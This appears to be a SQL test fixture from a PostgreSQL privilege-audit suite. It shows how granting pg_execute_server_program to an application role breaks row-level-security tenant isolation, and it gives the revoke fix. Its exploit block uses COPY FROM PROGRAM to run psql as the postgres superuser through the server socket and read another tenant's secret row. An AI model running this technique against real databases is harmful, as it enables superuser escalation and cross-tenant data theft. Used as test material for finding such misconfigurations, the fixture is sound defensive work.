-- What: pg_execute_server_program, for an export with COPY … TO PROGRAM: commands run as the server's own user.
-- Class: role_runs_programs
-- Object: programs_web
-- Exploit: psql as the superuser over the server's socket, whose directory stands in postmaster.pid.
-- App: programs_web
-- Roles: programs_web
-- @superuser
create role programs_web login in role pg_execute_server_program;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to programs_web;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke pg_execute_server_program from programs_web;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create temporary table loot (line text);
do $$ begin
  execute format('copy loot from program %L',
    'psql -XAtq -U postgres -h "$(sed -n 5p postmaster.pid)" -p "$(sed -n 4p postmaster.pid)" -c "select body from items" '
    || current_database());
exception when insufficient_privilege then null;
end $$;
select line from loot where line = 'B-secret';
